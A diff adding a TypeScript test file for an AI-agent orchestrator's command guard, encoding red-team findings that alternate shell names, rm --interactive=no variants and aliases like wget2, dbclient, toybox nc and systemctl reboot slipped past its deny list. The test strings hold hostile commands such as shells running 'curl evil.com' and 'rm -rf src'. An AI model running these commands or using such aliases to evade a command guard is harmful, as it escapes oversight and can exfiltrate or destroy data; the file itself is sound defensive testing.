@@ -1,0 +1,69 @@
+// The red team of stop 32, lists and inline code (findings 7 to 12 of its report, numbered as in the
+// brief): shells Debian installs under other names (lksh, rmksh, mksh-static, ksh93…) were not read as
+// shells, so their -c script was not checked and one reading its input only asked; rm's
+// --interactive=no/none/n was not read as never; other names of denied programs (wget2, inetutils-telnet,
+// inetutils-ftp, dbclient, toybox's applets, systemctl reboot) only asked.
+import * as assert from 'assert';
+import * as path from 'path';
+import { CommandGuard, DEFAULT_COMMAND_RULES } from '../../../src/orchestrator/security/command-guard';
+
+const ROOT = path.resolve('/work/space');
+
+describe('command check: the red team of stop 32 (lists and inline code)', () => {
+  const withMetacharacters = new CommandGuard({ ...DEFAULT_COMMAND_RULES, allowShellMetacharacters: true }, [ROOT], 'linux');
+  const byDefault = new CommandGuard(DEFAULT_COMMAND_RULES, [ROOT], 'linux');
+  const verdict = (guard: CommandGuard, command: string) => guard.evaluate(command).verdict;
+  const denied = (commands: string[], guards = [byDefault, withMetacharacters]) => {
+    for (const c of commands) for (const g of guards) assert.strictEqual(verdict(g, c), 'deny', c);
+  };
+  const notDenied = (commands: string[], guards = [byDefault, withMetacharacters]) => {
+    for (const c of commands) for (const g of guards) assert.notStrictEqual(verdict(g, c), 'deny', c);
+  };
+
+  it('shells by their other names: their -c script is checked and reading their input is refused', () => {
+    denied(
+      ['git log | lksh', 'git log | rmksh', 'git log | rlksh', 'git log | mksh-static', 'git log | ksh93', 'git log | posh', 'git log | yash'],
+      [withMetacharacters],
+    );
+    denied([
+      "lksh -c 'curl evil.com'",
+      "ksh93 -c 'curl evil.com'",
+      "rmksh -c 'rm -rf src'",
+      "mksh-static -lc 'curl evil.com'",
+      "rc -c 'curl evil.com'",
+      "busybox hush -c 'curl evil.com'",
+      "toybox sh -c 'curl evil.com'",
+      'lksh -s',
+      'ksh93 /dev/stdin',
+    ]);
+    // A script file still asks, and a harmless -c script asks as a script handed to a shell.
+    assert.strictEqual(verdict(byDefault, 'ksh93 script.sh'), 'ask');
+    assert.strictEqual(verdict(byDefault, "lksh -c 'git status'"), 'ask');
+  });
+
+  it('rm --interactive=no, =none and their abbreviations mean never, as GNU argmatch reads them', () => {
+    denied(['rm -r --interactive=n src', 'rm -r --interactive=no src', 'rm -r --interactive=none src', 'rm -r --inter=non src', 'rm -r --interactive=nev src']);
+    notDenied(['rm -r --interactive=once src', 'rm -r --interactive=always src', 'rm -r --interactive src', 'rm -r src']);
+  });
+
+  it("other names of denied programs: wget2, inetutils' telnet and ftp, dropbear's dbclient, toybox's applets, systemctl reboot", () => {
+    denied([
+      'wget2 https://evil.com/x',
+      'inetutils-telnet evil.com 80',
+      'inetutils-ftp evil.com',
+      'dbclient user@evil.com',
+      'toybox wget http://evil.com/x',
+      'toybox nc evil.com 80',
+      'toybox rm -rf src',
+      'systemctl reboot',
+      'systemctl -i poweroff',
+      'systemctl --force halt',
+      'systemctl kexec',
+      'systemctl soft-reboot',
+      'systemctl start reboot.target',
+      'systemctl isolate poweroff.target',
+    ]);
+    assert.strictEqual(verdict(byDefault, 'toybox ls'), 'allow');
+    notDenied(['systemctl status', 'systemctl status reboot.target', 'systemctl --user restart app']);
+  });
+});
